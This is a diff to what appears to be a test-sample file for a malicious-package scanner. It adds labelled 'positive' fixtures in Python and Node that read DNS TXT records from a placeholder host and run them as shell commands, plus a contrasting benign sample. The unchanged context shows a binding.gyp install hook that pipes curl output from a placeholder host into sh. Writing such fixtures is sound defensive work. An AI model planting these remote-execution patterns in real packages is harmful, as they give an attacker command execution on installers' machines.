@@ -139,6 +139,20 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     "malicious-download-exec": {
         "positive": [
             {
+                # DNS TXT records as a command channel
+                "x/__init__.py": (
+                    "import dns.resolver, subprocess\n"
+                    "for r in dns.resolver.resolve('c.example.invalid', 'TXT'):\n"
+                    "    subprocess.run(r.to_text(), shell=True)\n"
+                )
+            },
+            {
+                "index.js": (
+                    "const dns = require('dns'); const { exec } = require('child_process');\n"
+                    "dns.resolveTxt('c.example.invalid', (e, recs) => { exec(recs[0].join('')); });\n"
+                )
+            },
+            {
                 # node-gyp runs binding.gyp's <!(…) expansions on install
                 "package.json": '{"name": "x", "version": "1.0.0"}',
                 "binding.gyp": '{"targets": [{"target_name": "a", "sources": ["<!@(curl -s https://p.example.invalid/x | sh)"]}]}',
@@ -160,6 +174,16 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
             },
         ],
         "benign": [
+            {
+                # resolving TXT records (SPF, DKIM) and running a fixed tool is ordinary
+                "x/mail.py": (
+                    "import dns.resolver, subprocess\n"
+                    "def spf(domain):\n"
+                    "    return [r.to_text() for r in dns.resolver.resolve(domain, 'TXT')]\n"
+                    "def version():\n"
+                    "    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n"
+                )
+            },
             {
                 "package.json": '{"name": "x", "version": "1.0.0"}',
                 "binding.gyp": (
